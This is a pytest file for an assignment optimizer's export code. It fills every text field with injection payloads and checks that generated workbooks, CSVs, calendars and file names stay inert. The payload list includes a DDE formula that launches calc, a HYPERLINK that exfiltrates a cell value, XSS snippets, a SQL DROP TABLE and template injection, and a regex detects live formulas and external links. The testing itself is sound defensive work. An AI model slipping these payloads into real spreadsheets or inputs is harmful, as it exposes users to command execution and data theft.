"""Formulas and markup through every text field a planner or a graduate fills in, looked for in every output."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from builders import scenario

from optimizer.exchange.load import read
from optimizer.exchange.marked_copy import write_marked
from optimizer.exchange.neutral import neutral
from optimizer.exchange.scenario_workbook import write_workbook
from optimizer.report.whole_way import whole_way
from optimizer.scenario.model import Scenario
from optimizer.scenario.settings import Settings

PAYLOADS = (
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"点")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "＝1＋1",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'; DROP TABLE x; --", "{{7*7}}", "&lt;b&gt;",
)  # fmt: skip
"""Each also starts a text somewhere: a name, a village, a reason, an id."""


def poisoned() -> Scenario:
    """Ten people and posts; every text field of each holds a payload, ids included."""
    people = [
        {"graduate": f"{text}{at}", "name": text, "gender": "女", "township": "", "备注": text}
        for at, text in enumerate(PAYLOADS)
    ]
    posts = [
        {"post": f"{text}#{at}", "village": text, "township": text.replace("、", ""), "county": f"县{text}"}
        for at, text in enumerate(PAYLOADS)
    ]
    wishes = [(people[at]["graduate"], 1, posts[(at + 1) % 10]["post"]) for at in range(10)]
    made = scenario(people, posts, wishes, pins=[(people[0]["graduate"], posts[0]["post"])])
    made.pins.loc[:, ["reason", "author"]] = PAYLOADS[:1] * 2
    said = made.settings.model_dump(exclude_none=True) | {
        "scenario": {"name": PAYLOADS[0], "seed": 7},
        "rotation": {"start": "2024-07", "months": 2, "rules": [], "goals": [{"kind": "wishes"}]},
    }
    units = pd.DataFrame(
        {"unit": [PAYLOADS[0], PAYLOADS[5]], "name": [PAYLOADS[1], PAYLOADS[6]], "kind": ["", ""]}
    )
    settings = Settings.model_validate(said)
    tables = {name: getattr(made, name) for name in ("graduates", "posts", "wishes", "pins")}
    return Scenario.from_frames(**tables, units=units, settings=settings)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("run") / "run"
    whole_way(poisoned(), out, mechanisms=["optimal"])
    return out


def live(path: Path) -> list[str]:
    """What a workbook would work out, fetch or run: formulas, links to elsewhere, queries, macros."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            if re.search(r"<f[ >]|TargetMode=.External|ddeLink|<oleLink", text) or "externalLink" in name:
                found.append(name)
    return found


def test_no_workbook_holds_a_formula_or_a_link_to_elsewhere(run: Path) -> None:
    books = sorted(run.rglob("*.xlsx"))
    assert {"workbook.xlsx", "comparison.xlsx"} <= {book.name for book in books}
    assert len(books) > 3
    assert [found for book in books for found in live(book)] == []


def test_no_table_of_a_run_starts_a_formula(run: Path) -> None:
    """The inputs are carried as they were, so that they can be read again; every other table is neutral."""
    tables = [path for path in run.rglob("*.csv") if "inputs" not in path.parts]
    assert len(tables) > 5
    for path in tables:
        for row in csv.reader(io.StringIO(path.read_text("utf-8"))):
            for cell in row:
                assert neutral(cell) == cell or re.fullmatch(r"-?\d+(\.\d+)?", cell), (path, cell)


def test_no_file_name_leaves_its_folder(run: Path) -> None:
    for path in run.rglob("*"):
        assert re.fullmatch(r"[\w.@-]+", path.name), path


def test_calendars_hold_one_event_a_month_whatever_is_written_into_a_name(run: Path) -> None:
    files = sorted(run.rglob("*.ics"))
    assert files
    for path in files:
        for line in path.read_text("utf-8").replace("\r\n ", "").split("\r\n"):
            assert not line or re.match(r"[A-Z-]+[:;]", line), (path, line)


def test_a_marked_copy_and_a_converted_scenario_stay_dead(run: Path, tmp_path: Path) -> None:
    faulty = replace(poisoned(), wishes=poisoned().wishes.assign(graduate=PAYLOADS[0]))
    write_workbook(faulty, tmp_path / "given.xlsx")
    assert live(tmp_path / "given.xlsx") == []
    faults = read(tmp_path / "given.xlsx").faults
    assert len(faults) >= 10
    write_marked(tmp_path / "given.xlsx", faults, tmp_path / "marked.xlsx")
    assert live(tmp_path / "marked.xlsx") == []
